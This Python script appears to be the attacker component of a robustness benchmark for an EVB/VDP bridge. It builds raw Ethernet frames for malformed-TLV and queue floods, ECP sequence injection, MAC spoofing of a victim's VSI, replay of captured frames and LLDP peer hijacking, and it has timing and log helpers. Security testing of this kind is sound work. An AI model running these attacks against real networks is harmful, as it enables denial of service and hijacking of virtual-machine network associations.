#!/usr/bin/env python3
"""Raw-frame attacker and log helpers for Benchmarks/attack/run.sh (standard library only, Linux AF_PACKET).

Subcommands (each prints one JSON object with what it did and saw on standard output when it ends):
  malformed IF --seconds S --rate R      Manager ID + 739 zero-length VSI TLVs per ECPDU, R frames/s
  queue-flood IF --seconds S --rate R    De-Associates of unknown VSIs (42 per ECPDU) and Associates of new VSIs,
                                         never acknowledging the bridge's ECPDUs
  inject-seq IF --victim MAC --seconds S whenever the victim sends ECP request n, send request n+1 from our MAC
  scale IF --vsis N --rate R             associate N VSIs (42 per ECPDU), acknowledging the bridge, then go silent
  lldp IF --seconds S                    LLDPDUs from a stranger: EVB station TLV with RTE/RWD/RKA 31 every
                                         second, and a TTL-0 LLDPDU after each
  validation IF --victim MAC --victim-vsiid UUID --replay-vsiid UUID --seconds S
                                         spoofed source MAC, VIDs outside the range, reserved VSIID formats,
                                         replay of a captured Associate after its De-Associate
  watch IF OUT --prefix HEX               on the legitimate station's interface: kernel time stamps of its Associate
                                         requests and of the bridge's first answer to each, to OUT on SIGTERM
  stamp                                  copy stdin to stdout, each line prefixed with the time and a tab
  drain OUT --rate BYTES_PER_S           read stdin at most at that rate (0: unlimited) into OUT; on EOF print
                                         bytes and lines
"""
import argparse
import json
import os
import select
import signal
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
ECP_TYPE = 0x8940
LLDP_TYPE = 0x88CC
NCB = bytes.fromhex('0180c2000000')
PACKET_OUTGOING = 4
MAX_ULPDU = 1500 - 4
# The attacker's VSIs name one VID each (inside run.sh's --vid-range 100-1099, at its top), as VMs of one network
# would: the bridge's pool keeps handing out the other VIDs to the legitimate station's null-VID requests.
QUEUE_VID = 1098
SCALE_VID = 1099
# The VID a spoofed Associate asks for on the victim's VSI (inside the range, so only the spoofing is at stake).
SPOOF_VID = 1097


def mac_bytes(text):
    return bytes(int(x, 16) for x in text.split(':'))


def mac_text(b):
    return ':'.join('%02x' % x for x in b)


def uuid_bytes(text):
    return bytes.fromhex(text.replace('-', ''))


class Port:
    """One raw socket on an interface: send whole frames, receive every frame that is not our own."""

    def __init__(self, interface):
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
        self.sock.bind((interface, 0))
        self.interface = interface
        self.address = self.sock.getsockname()[4][:6]
        self.sent = 0
        self.send_errors = 0
        print('ready', file=sys.stderr, flush=True)   # run.sh waits for this before the legitimate station starts

    def send(self, frame):
        if len(frame) < 60:
            frame = frame + bytes(60 - len(frame))
        try:
            self.sock.send(frame)
            self.sent += 1
        except OSError:   # ENOBUFS under a flood: counted, not fatal
            self.send_errors += 1

    def receive(self, timeout):
        """The next incoming frame, or None after `timeout` seconds."""
        deadline = time.monotonic() + timeout
        while True:
            left = max(deadline - time.monotonic(), 0)
            ready, _, _ = select.select([self.sock], [], [], left)
            if not ready:
                return None
            data, address = self.sock.recvfrom(65535)
            if address[2] == PACKET_OUTGOING:
                continue
            return data


# ------------------------------------------------------------------------------------------------ frame builders

def ecp_request(source, sequence, ulpdu):
    return NCB + source + struct.pack('>HHH', ECP_TYPE, 0x1001, sequence & 0xFFFF) + ulpdu


def ecp_ack(source, sequence):
    return NCB + source + struct.pack('>HHH', ECP_TYPE, 0x1401, sequence & 0xFFFF)


def tlv(kind, value):
    return struct.pack('>H', (kind << 9) | len(value)) + value


def manager_id(text=b'attack'):
    return tlv(5, text.ljust(16, b'\0'))


def vsi_tlv(kind, vsiid, vsiid_format=5, type_id=7, version=1, status=0, entries=((bytes(6), 0),), filter_format=2):
    """A VSI TLV (1 Pre-Associate, 2 with RR, 3 Associate, 4 De-Associate) with MAC/VID entries."""
    body = bytes([status]) + struct.pack('>I', type_id)[1:] + bytes([version, vsiid_format]) + vsiid
    if filter_format == 1:
        entry_bytes = b''.join(struct.pack('>H', vid) for _, vid in entries)
    else:
        entry_bytes = b''.join(mac + struct.pack('>H', vid) for mac, vid in entries)
    body += bytes([filter_format]) + struct.pack('>H', len(entries)) + entry_bytes
    return tlv(kind, body)


def numbered_uuid(prefix, n):
    head = bytes.fromhex(prefix)
    return head + n.to_bytes(16 - len(head), 'big')


def entry_mac(n):
    return bytes([0x52, 0x54, (n >> 24) & 0xFF, (n >> 16) & 0xFF, (n >> 8) & 0xFF, n & 0xFF])


def lldpdu(source, ttl, evb=None):
    chassis = tlv(1, b'\x04' + source)
    port = tlv(2, b'\x03' + source)
    frame = NCB + source + struct.pack('>H', LLDP_TYPE) + chassis + port + tlv(3, struct.pack('>H', ttl))
    if evb is not None:
        frame += tlv(127, evb)
    return frame + tlv(0, b'')


def evb_station_tlv(r=3, rte=31, rwd=31, rka=31):
    return bytes.fromhex('0080c20d') + bytes([0x00, 0x0F, (r << 5) | rte, 0x80 | rwd, rka])


# ---------------------------------------------------------------------------------------------------- parsing

def parse_ecp(frame):
    """(source, operation, sequence, ulpdu) of an ECP frame, else None."""
    if len(frame) < 18 or frame[12:14] != b'\x89\x40':
        return None
    word, sequence = struct.unpack('>HH', frame[14:18])
    return frame[6:12], (word >> 10) & 3, sequence, frame[18:]


def vsi_tlvs(ulpdu):
    """(type, status, vsiid format, vsiid, filter entries [(mac, vid word)]) of each VSI TLV of a ULPDU."""
    out, offset = [], 0
    while offset + 2 <= len(ulpdu):
        header = struct.unpack('>H', ulpdu[offset:offset + 2])[0]
        kind, length = header >> 9, header & 0x1FF
        if kind == 0:
            break
        body = ulpdu[offset + 2:offset + 2 + length]
        offset += 2 + length
        if 1 <= kind <= 4 and len(body) >= 25:
            count = struct.unpack('>H', body[23:25])[0]
            entries = []
            if body[22] == 2:
                for i in range(count):
                    e = body[25 + 8 * i:33 + 8 * i]
                    if len(e) == 8:
                        entries.append((e[:6], struct.unpack('>H', e[6:])[0]))
            out.append((kind, body[0], body[5], body[6:22], entries))
    return out


class Responses:
    """Counts the bridge's response TLVs (status octet) to our requests, by VSIID."""

    def __init__(self):
        self.by_vsiid = {}

    def note(self, ulpdu):
        now = time.monotonic()
        for kind, status, _, vsiid, entries in vsi_tlvs(ulpdu):
            if status & 0x40:
                self.by_vsiid.setdefault(vsiid, []).append((now, kind, status, [vid & 0xFFF for _, vid in entries]))

    def since(self, vsiid, start):
        return [(k, s, vids) for t, k, s, vids in self.by_vsiid.get(vsiid, []) if t >= start]


def report(result):
    print(json.dumps(result), flush=True)


def paced(rate, seconds):
    """Yields frame indices at `rate` per second for `seconds` (rate 0: as fast as possible)."""
    start = time.monotonic()
    i = 0
    while True:
        now = time.monotonic()
        if now - start >= seconds:
            return
        if rate > 0:
            due = start + i / rate
            if due > now:
                time.sleep(min(due - now, 0.01))
                continue
        yield i
        i += 1


# ----------------------------------------------------------------------------------------------------- attacks

def malformed(args):
    port = Port(args.interface)
    count = (MAX_ULPDU - 18) // 2   # 739 TLV headers after the Manager ID
    body = manager_id() + struct.pack('>H', 3 << 9) * count
    for i in paced(args.rate, args.seconds):
        port.send(ecp_request(port.address, 0x4000 + i, body))
    report({'attack': 'malformed', 'frames': port.sent, 'sendErrors': port.send_errors, 'tlvsPerFrame': count})


def queue_flood(args):
    port = Port(args.interface)
    per_frame = (MAX_ULPDU - 18) // 35   # 42 VSI TLVs of one MAC/VID entry
    tlvs = 0
    for i in paced(args.rate, args.seconds):
        kind = 4 if i % 2 == 0 else 3   # alternate: unknown De-Associates, new Associates
        body = manager_id()
        for k in range(per_frame):
            n = i * per_frame + k
            body += vsi_tlv(kind, numbered_uuid('dddd0000', n), entries=((entry_mac(n), QUEUE_VID),))
        tlvs += per_frame
        port.send(ecp_request(port.address, 0x2000 + i, body))
    report({'attack': 'queue-flood', 'frames': port.sent, 'tlvs': tlvs, 'sendErrors': port.send_errors})


def inject_seq(args):
    port = Port(args.interface)
    victim = mac_bytes(args.victim)
    injected, seen, last = 0, 0, None
    deadline = time.monotonic() + args.seconds
    while time.monotonic() < deadline:
        frame = port.receive(deadline - time.monotonic())
        parsed = frame and parse_ecp(frame)
        if not parsed or parsed[0] != victim or parsed[1] != 0:
            continue
        seen += 1
        if parsed[2] == last:   # a retransmission: the next number is already taken
            continue
        last = parsed[2]
        port.send(ecp_request(port.address, (parsed[2] + 1) & 0xFFFF, manager_id()))
        injected += 1
    report({'attack': 'inject-seq', 'victimRequestsSeen': seen, 'injected': injected})


def scale(args):
    port = Port(args.interface)
    per_frame = (MAX_ULPDU - 18) // 35
    frames = (args.vsis + per_frame - 1) // per_frame
    acked = set()
    granted = 0
    start = time.monotonic()

    def drain(timeout):
        nonlocal granted
        while True:
            frame = port.receive(timeout)
            if frame is None:
                return
            timeout = 0
            parsed = parse_ecp(frame)
            if not parsed or parsed[0] == port.address or parsed[1] != 0:
                continue
            port.send(ecp_ack(port.address, parsed[2]))
            if parsed[2] not in acked:
                acked.add(parsed[2])
                granted += sum(1 for t in vsi_tlvs(parsed[3]) if t[0] == 3 and t[1] & 0x4F == 0x40)

    sent_tlvs = 0
    for i in paced(args.rate, 1e9):
        if i >= frames:
            break
        body = manager_id()
        for k in range(min(per_frame, args.vsis - i * per_frame)):
            n = i * per_frame + k
            body += vsi_tlv(3, numbered_uuid('5ca1e000', n), entries=((entry_mac(n), SCALE_VID),))
            sent_tlvs += 1
        port.send(ecp_request(port.address, 0x1000 + i, body))
        drain(0)
    created = time.monotonic()
    drain(args.settle)
    report({'attack': 'scale', 'frames': port.sent, 'vsiTLVs': sent_tlvs, 'grantedSeen': granted,
            'createSeconds': round(created - start, 3), 'sendErrors': port.send_errors})


def lldp(args):
    port = Port(args.interface)
    sent = 0
    for _ in paced(1.0, args.seconds):
        port.send(lldpdu(port.address, 120, evb_station_tlv()))
        time.sleep(0.5)
        port.send(lldpdu(port.address, 0))
        sent += 2
        # the EVB TLV again at once, so that the stranger stays the peer most of the time
        port.send(lldpdu(port.address, 120, evb_station_tlv()))
        sent += 1
    report({'attack': 'lldp', 'lldpdus': sent})


def validation(args):
    """Spoofing, VIDs outside the range, reserved VSIID formats, replay; reports the bridge's answers."""
    port = Port(args.interface)
    victim = mac_bytes(args.victim)
    victim_vsiid = uuid_bytes(args.victim_vsiid)
    replay_vsiid = uuid_bytes(args.replay_vsiid)
    responses = Responses()
    sequence = 0x3000
    captured = None        # the victim's first Associate of replay_vsiid, whole frame
    deassociated_at = None
    replayed = False
    victim_granted_vid = None
    sent_spoof = sent_vids = sent_formats = False
    victim_asked_at = None   # when the victim first asked for victim_vsiid
    deadline = time.monotonic() + args.seconds
    t0 = time.monotonic()
    own_requests = {}

    def request(source, tlvs, label):
        nonlocal sequence
        sequence += 1
        for vsiid, _ in tlvs:
            own_requests.setdefault(label, []).append((vsiid, time.monotonic()))
        port.send(ecp_request(source, sequence, manager_id() + b''.join(t for _, t in tlvs)))

    while time.monotonic() < deadline:
        frame = port.receive(0.05)
        now = time.monotonic()
        if frame is not None:
            parsed = parse_ecp(frame)
            if parsed and parsed[1] == 0:
                source, _, seq, ulpdu = parsed
                if source == victim:
                    for kind, status, _, vsiid, _ in vsi_tlvs(ulpdu):
                        if vsiid == victim_vsiid and kind == 3 and victim_asked_at is None:
                            victim_asked_at = now
                        if vsiid == replay_vsiid and kind == 3 and captured is None:
                            captured = frame
                        if vsiid == replay_vsiid and kind == 4 and captured is not None and deassociated_at is None:
                            deassociated_at = now
                elif source != port.address:
                    # the bridge: acknowledge everything, so that its ECP moves on, and note its answers
                    port.send(ecp_ack(port.address, seq))
                    responses.note(ulpdu)
                    for kind, status, _, vsiid, entries in vsi_tlvs(ulpdu):
                        if vsiid == victim_vsiid and kind == 3 and status & 0x4F == 0x40 and entries:
                            victim_granted_vid = victim_granted_vid or entries[0][1] & 0xFFF
        # A bridge that answers each station at its own MAC address is not overheard through the hub: then the
        # victim's VID is taken to be the first of the pool (--victim-vid), one second after its request.
        if victim_granted_vid is None and victim_asked_at is not None and now - victim_asked_at > 1.0:
            victim_granted_vid = args.victim_vid
        if not sent_spoof and victim_granted_vid is not None:
            # the victim's VSI, from the victim's MAC, with other filters
            request(victim, [(uuid_bytes(args.victim_vsiid),
                              vsi_tlv(3, victim_vsiid, entries=((bytes.fromhex('525400bad001'), SPOOF_VID),)))], 'spoof')
            sent_spoof = True
        if not sent_vids and now - t0 > 1.0 and victim_granted_vid is not None:
            for n, vid in enumerate([1, 4095, victim_granted_vid]):
                v = numbered_uuid('7100', n)
                request(port.address, [(v, vsi_tlv(3, v, entries=((entry_mac(0x710000 + n), vid),)))],
                        'vid-%d' % vid if vid != victim_granted_vid else 'vid-of-victim')
            sent_vids = True
        if not sent_formats and now - t0 > 1.5:
            for fmt in (0, 6, 255):
                v = numbered_uuid('f000', fmt)
                request(port.address, [(v, vsi_tlv(3, v, vsiid_format=fmt, entries=((entry_mac(0xF00000 + fmt), 0),)))],
                        'format-%d' % fmt)
            sent_formats = True
        if captured is not None and deassociated_at is not None and not replayed and now - deassociated_at >= 2.0:
            own_requests['replay'] = [(replay_vsiid, time.monotonic())]
            port.send(captured)
            replayed = True
    result = {'attack': 'validation', 'captured': captured is not None, 'replayed': replayed,
              'victimVID': victim_granted_vid}
    outcome = {}
    for label, sent in own_requests.items():
        answers = [a for vsiid, at in sent for a in responses.since(vsiid, at)]
        outcome[label] = ['type%d/0x%02x/vid%s' % (k, s, '+'.join(map(str, vids))) for k, s, vids in answers] or ['none']
    result['outcome'] = outcome
    report(result)


# ------------------------------------------------------------------------------------------------ measurement

SO_TIMESTAMPNS = 35


def watch(args):
    """On the legitimate station's interface: kernel-stamped time of each Associate request (first transmission)
    and of the bridge's first response for each VSIID starting with --prefix; written to OUT as JSON on SIGTERM."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))   # ALL: outgoing too
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16 << 20)
    sock.setsockopt(socket.SOL_SOCKET, SO_TIMESTAMPNS, 1)
    sock.bind((args.interface, 0))
    prefix = bytes.fromhex(args.prefix)
    requests, responses = {}, {}
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    while not stop:
        try:
            ready, _, _ = select.select([sock], [], [], 0.2)
        except InterruptedError:
            continue
        if not ready:
            continue
        data, ancillary, _, address = sock.recvmsg(65535, socket.CMSG_SPACE(16))
        stamp = None
        for level, kind, payload in ancillary:
            if level == socket.SOL_SOCKET and kind == SO_TIMESTAMPNS and len(payload) >= 16:
                seconds, nanoseconds = struct.unpack('qq', payload[:16])
                stamp = seconds + nanoseconds / 1e9
        stamp = stamp or time.time()
        parsed = parse_ecp(data)
        if not parsed or parsed[1] != 0:
            continue
        outgoing = address[2] == PACKET_OUTGOING
        for kind, status, _, vsiid, _ in vsi_tlvs(parsed[3]):
            if not vsiid.startswith(prefix):
                continue
            key = vsiid.hex()
            if outgoing and kind == 3 and not status & 0x40:
                requests.setdefault(key, stamp)
            elif not outgoing and status & 0x40 and key in requests and key not in responses:
                responses[key] = (stamp, kind, status)
    result = {}
    for key, at in requests.items():
        answer = responses.get(key)
        result[key] = {'request': at, 'response': answer and answer[0], 'type': answer and answer[1],
                       'status': answer and answer[2]}
    with open(args.output, 'w') as out:
        json.dump(result, out)


# -------------------------------------------------------------------------------------------------- log helpers

def stamp(_):
    out = sys.stdout
    for line in sys.stdin:
        out.write('%.6f\t%s' % (time.time(), line))
        out.flush()


def drain(args):
    """Reads stdin at most at --rate bytes/s (a slow log shipper) into a file."""
    fd = sys.stdin.fileno()
    total = lines = 0
    start = time.monotonic()
    # SIGUSR1: read at full speed from now on (the run is over; let the writer finish)
    signal.signal(signal.SIGUSR1, lambda *_: setattr(args, 'rate', 0))
    with open(args.output, 'wb') as out:
        while True:
            if args.rate > 0:
                due = start + total / args.rate
                now = time.monotonic()
                if due > now:
                    time.sleep(min(due - now, 0.1))
                    continue
            chunk = os.read(fd, 4096 if args.rate > 0 else 1 << 16)
            if not chunk:
                break
            total += len(chunk)
            lines += chunk.count(b'\n')
            if args.keep is None or total <= args.keep:
                out.write(chunk)
                out.flush()
    report({'bytes': total, 'lines': lines})


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = parser.add_subparsers(dest='command', required=True)
    for name, function in [('malformed', malformed), ('queue-flood', queue_flood), ('inject-seq', inject_seq),
                           ('scale', scale), ('lldp', lldp), ('validation', validation)]:
        p = sub.add_parser(name)
        p.add_argument('interface')
        p.add_argument('--seconds', type=float, default=10)
        p.add_argument('--rate', type=float, default=100)
        p.add_argument('--victim')
        p.add_argument('--victim-vsiid')
        p.add_argument('--replay-vsiid')
        p.add_argument('--victim-vid', type=int, default=100)
        p.add_argument('--vsis', type=int, default=100000)
        p.add_argument('--settle', type=float, default=2)
        p.set_defaults(function=function)
    p = sub.add_parser('watch')
    p.add_argument('interface')
    p.add_argument('output')
    p.add_argument('--prefix', default='a11ce000')
    p.set_defaults(function=watch)
    p = sub.add_parser('stamp')
    p.set_defaults(function=stamp)
    p = sub.add_parser('drain')
    p.add_argument('output')
    p.add_argument('--rate', type=float, default=0)
    p.add_argument('--keep', type=int, default=None, help='keep at most this many bytes in OUT (all are counted)')
    p.set_defaults(function=drain)
    args = parser.parse_args()
    args.function(args)


if __name__ == '__main__':
    main()
